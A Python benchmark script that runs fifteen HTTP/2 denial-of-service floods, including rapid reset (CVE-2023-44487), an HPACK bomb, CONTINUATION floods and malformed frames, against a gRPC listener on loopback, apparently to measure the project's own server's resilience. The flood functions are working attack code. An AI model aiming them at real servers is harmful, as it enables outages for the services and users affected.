"""HTTP/2 floods against a gRPC listener while a well-behaved client calls it: the listener's RSS
growth and CPU, the good client's p50/p99 and failures, for ``grpc_server: h2`` (h2serve) beside
``grpc_server: grpc`` (grpc core's server). Loopback only; every attack stops by itself.

    .venv/bin/python -m bench.h2flood [--kinds h2,grpc] [--attacks a,b] [--seconds 5] [--json out.json]
    make bench-h2flood

Each (kind, attack) gets a fresh listener (tests/h2target.py: the server class and options the
gateway's worker uses, an echo service, no Triton), warmed with good calls; then for ``--seconds``
the attack runs from this process's threads while a second process makes unary calls one after the
other on one grpcio channel (5 s deadline each). RSS (VmRSS) is sampled every 50 ms: growth = peak
minus the warmed baseline. The done-when target (issue 52): p99 < 1 s, no good call failed, growth
< 64 MiB. The attacks (issue 52 "Floods", and the Done-when list):

    hpack_bomb        a call's fields put in HPACK's dynamic table (a 1 KiB value), then header
                      blocks of 16 KiB made only of its one-byte index, on 4 connections
    settings_flood    SETTINGS frames as fast as they go on 4 connections, the ACKs never read
    rapid_reset_req   HEADERS+DATA (a whole unary request) then RST_STREAM, new streams, not reading
    rapid_reset       HEADERS then RST_STREAM at once, 150k streams (CVE-2023-44487)
    data_past_window  DATA well past the advertised stream/connection windows, WINDOW_UPDATEs ignored
    windows_obeyed    8 unary calls on one connection each announcing 96 MiB, DATA only within the
                      windows granted (a client that obeys flow control)
    zero_window       INITIAL_WINDOW_SIZE 0, 100 calls asking 10 x 1 MiB answers, never read
    continuation_0    HEADERS without END_HEADERS then empty CONTINUATION frames, endlessly
    continuation_1    the same with 1-byte CONTINUATION frames
    max_frame_1       SETTINGS_MAX_FRAME_SIZE 1, then calls asking large answers (read)
    length_4gb        messages announcing 4 GiB (a 0xFFFFFFFF length prefix), then data
    malformed         fresh connections, each with one malformed frame (short WINDOW_UPDATE, PADDED
                      HEADERS without payload, 7-byte SETTINGS, 3-byte PING, ...)
    streams_over      1,000 streams opened on one connection (the limit is 100), repeated
    idle_streams      40 connections x 100 open streams that never send a byte more
    slow_reader       20 calls asking 64 x 1 MiB answers, windows granted, read at 64 KiB/s
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import os
import socket
import statistics
import struct
import threading
import time

from tests import h2raw as R
from tests.h2target import SINK, STREAM, UNARY, Target

MiB = 1 << 20
PAGE = os.sysconf("SC_PAGE_SIZE")
TICK = os.sysconf("SC_CLK_TCK")


# -- the listener measured ------------------------------------------------------------------------
def rss(pid: int) -> int:
    with open(f"/proc/{pid}/statm") as f:
        return int(f.read().split()[1]) * PAGE


def cpu(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


# -- the well-behaved client (its own process: the attackers' GIL is not its latency) --------------
def _good_client(port: int, ready, stop, out) -> None:
    import grpc

    latencies, failures, errors = [], 0, []
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        call = channel.unary_unary(UNARY)
        call(b"warm", timeout=30)  # connected before the attack begins
        ready.set()
        while not stop.is_set():
            t0 = time.perf_counter()
            try:
                if call(b"good" * 16, timeout=5) != b"good" * 16:
                    raise ValueError("wrong answer")
            except Exception as exc:  # noqa: BLE001 - every failure is counted, whatever it is
                failures += 1
                if len(errors) < 3:
                    errors.append(repr(exc)[:200])
            latencies.append(time.perf_counter() - t0)
            time.sleep(0.01)
    out.put((latencies, failures, errors))


# -- attackers: each ``attack(port, until)`` returns a line on what it did ---------------------------
def _conn(port: int, *, window: int | None = None, extra: bytes = b"") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    pairs = [] if window is None else [(R.INITIAL_WINDOW_SIZE, window)]
    sock.sendall(R.PREFACE + R.settings(*pairs) + extra)
    return sock


def _send(sock: socket.socket, data: bytes) -> bool:
    """False once the server closed (or the socket broke)."""
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False


def _hold(socks, until) -> None:
    while time.monotonic() < until:
        time.sleep(0.05)
    for s in socks:
        s.close()


def hpack_bomb(port, until):
    first = (b"\x83\x86" + R.literal(":path", SINK, indexed=True)
             + R.literal("content-type", "application/grpc", indexed=True) + R.literal("x-big", "v" * 1024, indexed=True))
    bomb = b"\x83\x86\xc0\xbf" + b"\xbe" * (16384 - 4)
    socks, blocks = [], 0
    for _ in range(4):
        s = _conn(port, extra=R.frame(R.HEADERS, R.END_HEADERS, 1, first))
        socks.append(s)
        for sid in range(3, 199, 2):
            if time.monotonic() > until or not _send(s, R.frame(R.HEADERS, R.END_HEADERS, sid, bomb)):
                break
            blocks += 1
    _hold(socks, until)
    return f"{blocks} blocks of 16 KiB"


def settings_flood(port, until):
    frames = R.settings((R.HEADER_TABLE_SIZE, 4096), (R.INITIAL_WINDOW_SIZE, 65535), (R.MAX_FRAME_SIZE, 16384)) * 1000
    counts = []

    def one():
        s, n = _conn(port), 0
        s.settimeout(1)
        while time.monotonic() < until and _send(s, frames):
            n += 1000
        s.close()
        counts.append(n)

    threads = [threading.Thread(target=one) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return f"{sum(counts)} SETTINGS on 4 connections, the ACKs never read"


def _rapid(port, until, with_request: bool, cap: int):
    block = R.request_block(UNARY)
    n, sid, conns = 0, 1, 0
    s = _conn(port)
    s.settimeout(1)
    conns += 1
    while time.monotonic() < until and n < cap:
        batch = []
        for _ in range(500):
            if with_request:
                batch.append(R.frame(R.HEADERS, R.END_HEADERS, sid, block) + R.frame(R.DATA, R.END_STREAM, sid, R.message(b"x" * 64)))
            else:
                batch.append(R.frame(R.HEADERS, R.END_HEADERS, sid, block))
            batch.append(R.rst(sid))
            sid += 2
        if not _send(s, b"".join(batch)) or sid > (1 << 31) - 1000:
            s.close()
            s, sid = _conn(port), 1
            s.settimeout(1)
            conns += 1
        n += 500
    s.close()
    return f"{n} streams reset on {conns} connection(s)"


def rapid_reset_req(port, until):
    return _rapid(port, until, True, 10**9)


def rapid_reset(port, until):
    return _rapid(port, until, False, 150_000)


def data_past_window(port, until):
    chunk = R.frame(R.DATA, 0, 0, b"")  # placeholder for the head's shape
    sent, sid, conns = 0, 1, 1
    s = _conn(port)
    s.settimeout(1)
    payload = b"\x00" * 16384
    while time.monotonic() < until and sent < 1024 * MiB:
        head = R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(UNARY))
        first = R.frame(R.DATA, 0, sid, b"\x00" + struct.pack(">I", 90 * MiB) + payload[5:])
        chunk = R.frame(R.DATA, 0, sid, payload)
        if not _send(s, head + first + chunk * 1023):  # 16 MiB on the stream: twice its window, at once
            s.close()
            s, sid = _conn(port), 1
            s.settimeout(1)
            conns += 1
            continue
        sent += 16 * MiB
        sid += 2
    s.close()
    return f"{sent // MiB} MiB sent on {conns} connection(s)"


def windows_obeyed(port, until):
    """8 unary calls each announcing a 96 MiB message, DATA sent only within the windows granted."""
    s = _conn(port, extra=b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(UNARY)) for sid in range(1, 17, 2)))
    got, _ = R.read_frames(s, quiet=0.2, limit=2)
    initial = next((v for f in got if f.kind == R.SETTINGS and not f.flags & R.ACK
                    for k, v in (struct.unpack_from(">HI", f.payload, i) for i in range(0, len(f.payload) - 5, 6))
                    if k == R.INITIAL_WINDOW_SIZE), 65535)
    windows = dict.fromkeys(range(1, 17, 2), initial)
    conn = 65535 + sum(int.from_bytes(f.payload, "big") for f in got if f.kind == R.WINDOW_UPDATE and f.sid == 0)
    started, sent, chunk = set(), 0, 16384
    while time.monotonic() < until:
        for sid in windows:
            while windows[sid] >= chunk and conn >= chunk:
                head = b"\x00" + struct.pack(">I", 96 * MiB) if sid not in started else b""
                started.add(sid)
                if not _send(s, R.frame(R.DATA, 0, sid, head + b"\x00" * (chunk - len(head)))):
                    return f"{sent // MiB} MiB sent within the windows, then the server closed"
                windows[sid] -= chunk
                conn -= chunk
                sent += chunk
        got, closed = R.read_frames(s, quiet=0.02, limit=0.05)
        for f in got:
            if f.kind == R.WINDOW_UPDATE and len(f.payload) == 4:
                inc = int.from_bytes(f.payload, "big")
                if f.sid == 0:
                    conn += inc
                elif f.sid in windows:
                    windows[f.sid] += inc
            elif f.kind == R.RST_STREAM:
                windows.pop(f.sid, None)
        if closed or not windows:
            break
    s.close()
    return f"{sent // MiB} MiB sent within the windows granted on 8 calls"


def zero_window(port, until):
    s = _conn(port, window=0)
    ask = R.message(struct.pack(">II", 10, MiB))
    calls = b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(STREAM)) + R.frame(R.DATA, R.END_STREAM, sid, ask)
                     for sid in range(1, 200, 2))
    _send(s, calls)
    _hold([s], until)
    return "100 calls x 10 MiB asked, window 0"


def _continuation(port, until, size):
    s = _conn(port)
    s.settimeout(1)
    ok = _send(s, R.frame(R.HEADERS, 0, 1, R.request_block(UNARY)))
    cont = R.frame(R.CONTINUATION, 0, 1, b"\x00" * 0 if size == 0 else R.literal("a", "")[:1]) * 2000
    n = 0
    while ok and time.monotonic() < until:
        ok = _send(s, cont)
        n += 2000 if ok else 0
    s.close()
    return f"{n} CONTINUATION frames sent" + ("" if ok else ", then the server closed")


def continuation_0(port, until):
    return _continuation(port, until, 0)


def continuation_1(port, until):
    return _continuation(port, until, 1)


def _reader(sock: socket.socket, until, rate: int | None = None) -> int:
    """Reads (and grants window for) what comes until ``until``; ``rate`` bytes/s at most."""
    got = 0
    sock.settimeout(0.2)
    start = time.monotonic()
    while time.monotonic() < until:
        if rate is not None and got > rate * (time.monotonic() - start):
            time.sleep(0.05)
            continue
        try:
            chunk = sock.recv(65536 if rate is None else 16384)
        except TimeoutError:
            continue
        except OSError:
            break
        if not chunk:
            break
        got += len(chunk)
    return got


def max_frame_1(port, until):
    extra = (R.settings((R.MAX_FRAME_SIZE, 1), (R.INITIAL_WINDOW_SIZE, (1 << 31) - 1))
             + R.window_update(0, (1 << 31) - 1 - 65535))
    s = _conn(port, extra=extra)
    ask = R.message(struct.pack(">II", 64, MiB))
    _send(s, b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(STREAM)) + R.frame(R.DATA, R.END_STREAM, sid, ask)
                      for sid in range(1, 20, 2)))
    got = _reader(s, until)
    s.close()
    return f"{got // 1024} KiB read"


def length_4gb(port, until):
    s, n, sid, conns = _conn(port), 0, 1, 1
    s.settimeout(1)
    body = b"\x00\xff\xff\xff\xff" + b"\x00" * 60000
    while time.monotonic() < until:
        if not _send(s, R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(UNARY)) + R.frame(R.DATA, 0, sid, body[:16384])
                     + R.frame(R.DATA, 0, sid, body[16384:32768])):
            s.close()
            s, sid = _conn(port), 1
            s.settimeout(1)
            conns += 1
            continue
        n += 1
        sid += 2
        if sid > 20001:
            s.close()
            s, sid = _conn(port), 1
            s.settimeout(1)
            conns += 1
    s.close()
    return f"{n} calls announcing 4 GiB on {conns} connection(s)"


MALFORMED = (
    R.frame(R.WINDOW_UPDATE, 0, 0, b"\x00\x01"),  # 2-byte WINDOW_UPDATE
    R.frame(R.HEADERS, R.PADDED | R.END_HEADERS, 1, b""),  # PADDED HEADERS, no payload
    R.frame(R.SETTINGS, 0, 0, b"\x00" * 7),  # 7-byte SETTINGS
    R.frame(R.PING, 0, 0, b"abc"),  # 3-byte PING
    R.frame(R.SETTINGS, 0, 1, b""),  # SETTINGS on a stream
    R.window_update(0, 0),  # WINDOW_UPDATE of 0
    R.settings((R.INITIAL_WINDOW_SIZE, 1 << 31)),
    R.frame(R.RST_STREAM, 0, 0, b"\x00\x00\x00\x08"),  # RST_STREAM on stream 0
    R.frame(R.DATA, R.PADDED, 1, b"\xff"),  # padding past the payload
    R.frame(R.HEADERS, R.END_HEADERS, 2, R.request_block(UNARY)),  # an even stream id
    R.frame(R.CONTINUATION, R.END_HEADERS, 1, b"\x82"),  # CONTINUATION with no HEADERS before it
    R.frame(R.HEADERS, R.END_HEADERS, 1, b"\xff\xff\xff\xff\xff"),  # HPACK garbage
)


def malformed(port, until):
    n = 0
    while time.monotonic() < until:
        for bad in MALFORMED:
            try:
                with _conn(port, extra=bad) as s:
                    s.settimeout(0.2)
                    R.read_frames(s, quiet=0.01, limit=0.05)
            except OSError:
                pass
            n += 1
    return f"{n} connections, one malformed frame each"


def streams_over(port, until):
    n, conns = 0, 0
    block = R.request_block(SINK)
    socks = []
    while time.monotonic() < until and conns < 20:
        s = _conn(port)
        s.settimeout(1)
        conns += 1
        _send(s, b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, block) for sid in range(1, 2001, 2)))
        n += 1000
        socks.append(s)
    _hold(socks, until)
    return f"{n} streams opened on {conns} connections (limit 100 each)"


def idle_streams(port, until):
    block = R.request_block(SINK)
    socks = []
    for _ in range(40):
        if time.monotonic() > until:
            break
        s = _conn(port)
        _send(s, b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, block) + R.frame(R.DATA, 0, sid, R.message(b"x"))
                          for sid in range(1, 200, 2)))
        socks.append(s)
    _hold(socks, until)
    return f"{len(socks)} connections x 100 idle streams"


def slow_reader(port, until):
    extra = R.settings((R.INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + R.window_update(0, (1 << 31) - 1 - 65535)
    s = _conn(port, extra=extra)
    ask = R.message(struct.pack(">II", 64, MiB))
    _send(s, b"".join(R.frame(R.HEADERS, R.END_HEADERS, sid, R.request_block(STREAM)) + R.frame(R.DATA, R.END_STREAM, sid, ask)
                      for sid in range(1, 40, 2)))
    got = _reader(s, until, rate=64 * 1024)
    s.close()
    return f"{got // 1024} KiB read at 64 KiB/s"


ATTACKS = {f.__name__: f for f in (hpack_bomb, settings_flood, rapid_reset_req, rapid_reset, data_past_window, windows_obeyed, zero_window,
                                   continuation_0, continuation_1, max_frame_1, length_4gb, malformed, streams_over,
                                   idle_streams, slow_reader)}


# -- one measurement ----------------------------------------------------------------------------------
def measure(kind: str, attack: str, seconds: float) -> dict:
    target = Target(kind)
    try:
        for _ in range(20):  # warmed: the first calls' allocations are not the attack's
            R.good_call(target.port, b"warm")
        ctx = multiprocessing.get_context("spawn")
        ready, stop, out = ctx.Event(), ctx.Event(), ctx.Queue()
        good = ctx.Process(target=_good_client, args=(target.port, ready, stop, out))
        good.start()
        if not ready.wait(60):
            raise RuntimeError("the good client did not connect")
        time.sleep(0.3)
        base, cpu0 = rss(target.pid), cpu(target.pid)
        peak, done, note = base, threading.Event(), {}

        def run():
            try:
                note["what"] = ATTACKS[attack](target.port, time.monotonic() + seconds)
            except Exception as exc:  # noqa: BLE001 - an attacker's own failure is reported, not raised
                note["what"] = f"attacker failed: {exc!r}"[:200]
            done.set()

        threading.Thread(target=run, daemon=True).start()
        end = time.monotonic() + seconds + 10
        while not done.is_set() and time.monotonic() < end and target.alive():
            peak = max(peak, rss(target.pid))
            time.sleep(0.05)
        for _ in range(10):  # what the attack left behind, a second on
            if not target.alive():
                break
            peak = max(peak, rss(target.pid))
            time.sleep(0.1)
        stop.set()
        latencies, failures, errors = out.get(timeout=30)
        good.join(10)
        alive = target.alive()
        row = {"kind": kind, "attack": attack, "what": note.get("what", "attacker still running"),
               "rss_growth_mib": round((peak - base) / MiB, 1), "cpu_s": round(cpu(target.pid) - cpu0, 2) if alive else None,
               "good_calls": len(latencies), "good_failed": failures, "errors": errors, "alive": alive}
        if latencies:
            ordered = sorted(latencies)
            row["p50_ms"] = round(statistics.median(ordered) * 1000, 1)
            row["p99_ms"] = round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000, 1)
            row["max_ms"] = round(ordered[-1] * 1000, 1)
        row["ok"] = bool(alive and not failures and latencies and row["p99_ms"] < 1000 and row["rss_growth_mib"] < 64)
        return row
    finally:
        target.stop()


def table(rows: list[dict]) -> str:
    by = {(r["attack"], r["kind"]): r for r in rows}
    kinds = [k for k in ("h2", "grpc") if any(r["kind"] == k for r in rows)]
    head = "| attack | " + " | ".join(f"{k}: RSS +MiB, CPU s, good p99 ms, failed/calls" for k in kinds) + " |"
    lines = [head, "|---" * (len(kinds) + 1) + "|"]
    for attack in dict.fromkeys(r["attack"] for r in rows):
        cells = []
        for k in kinds:
            r = by.get((attack, k))
            if r is None:
                cells.append("")
                continue
            mark = "" if r["ok"] else " ✗"
            died = "" if r["alive"] else " (died)"
            cells.append(f"+{r['rss_growth_mib']}, {r['cpu_s']}, {r.get('p99_ms', '-')}, "
                         f"{r['good_failed']}/{r['good_calls']}{died}{mark}")
        lines.append(f"| {attack} | " + " | ".join(cells) + " |")
    return "\n".join(lines)


def main(argv=None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--kinds", default="h2,grpc")
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--json", default=None)
    args = parser.parse_args(argv)
    rows = []
    for attack in args.attacks.split(","):
        for kind in args.kinds.split(","):
            row = measure(kind, attack, args.seconds)
            rows.append(row)
            print(json.dumps(row), flush=True)
    print(f"load: {os.getloadavg()}")
    print(table(rows))
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
